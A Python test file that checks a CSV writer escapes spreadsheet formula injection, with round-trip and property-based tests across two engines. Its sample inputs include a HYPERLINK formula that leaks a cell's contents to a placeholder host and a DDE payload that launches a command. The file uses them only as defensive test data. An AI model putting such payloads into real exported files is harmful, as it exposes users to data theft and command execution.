"""No CSV of ours runs as a formula in a spreadsheet, and none loses what it said."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rules.files.formulas import guarded, guarded_columns, unguarded, unguarded_columns
from tests.unit.engine.test_files import GOOD, HEAD, folder, score  # noqa: F401 - a fixture

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"read me")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "\ufeff=1",
    "\u3000=1",
    "-10%",
    "-1e3",
    "--5",
]
HARMLESS = ["", "-10", "+10", "-0.5", "0", "1000", "plain", "a=b", "张三", "'quoted'", "2019-02-26", "'"]
WAKES = re.compile(r"[\s\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
TEXTS = st.text(st.sampled_from("=+-@＝＋－＠'\t\r\n\0 \u3000\ufeff\u00a00159.ae,\"张"), max_size=6)


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_written_as_text_and_read_as_it_was(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_a_number_or_a_word_is_written_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@given(TEXTS)
@example("'-5")
def test_whatever_is_written_neither_runs_nor_is_lost(cell: str) -> None:
    written = guarded(cell)
    assert unguarded(written) == cell
    assert not WAKES.match(written) or re.fullmatch(r"[+-]?\d+(\.\d+)?", written)


@given(st.lists(st.none() | TEXTS, min_size=1))
def test_columns_are_written_and_read_like_cells(cells: list[str | None]) -> None:
    frame = pl.DataFrame({"cell": cells}, schema={"cell": pl.String})
    written = guarded_columns(frame)["cell"].to_list()
    assert written == [None if cell is None else guarded(cell) for cell in cells]
    read = unguarded_columns(frame)["cell"].to_list()
    assert read == [None if cell is None else unguarded(cell) for cell in cells]


@pytest.mark.parametrize("engine", ["bulk", "evaluate"])
def test_keys_of_residents_come_back_from_a_result_as_they_went_in(
    folder: Path,  # noqa: F811
    engine: str,
) -> None:
    keys = ["=cmd|'/c calc'!A1", "@ann", "-1+1", "'=x", "-7", "bob"]
    rows = [f'v{place},"{key}",V-1,2019-02-01,8.5,,,in_effect,2019-02-01,' for place, key in enumerate(keys)]
    (folder / "records.csv").write_text(HEAD + "\n".join(rows) + "\n", encoding="utf-8")
    effects = folder / "effects.csv"
    score(folder, "--engine", engine, "--effects", effects)
    for path in (folder / "scores.csv", effects):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if WAKES.match(cell) and cell != "-7"] == []
        assert "'@ann" in cells
    # the keys of our own result, read again as those of records
    with (folder / "scores.csv").open(encoding="utf-8", newline="") as file:
        ours = [row["resident"] for row in csv.DictReader(file)]
    with (folder / "again.csv").open("w", encoding="utf-8", newline="") as file:
        file.write(HEAD)
        csv.writer(file).writerows(
            [f"w{place}", key, "V-1", "2019-02-01", "8.5", "", "", "in_effect", "2019-02-01", ""]
            for place, key in enumerate(ours)
        )
    before = (folder / "scores.csv").read_bytes()
    score(folder, "--engine", engine, records="again.csv")
    assert (folder / "scores.csv").read_bytes() == before


def test_both_engines_guard_alike(folder: Path) -> None:  # noqa: F811
    hostile = GOOD.replace("ann", '"=1+1"').replace("bob", "'@x")
    (folder / "records.csv").write_text(HEAD + hostile, encoding="utf-8")
    assert score(folder, "--engine", "bulk") == score(folder, "--engine", "evaluate")
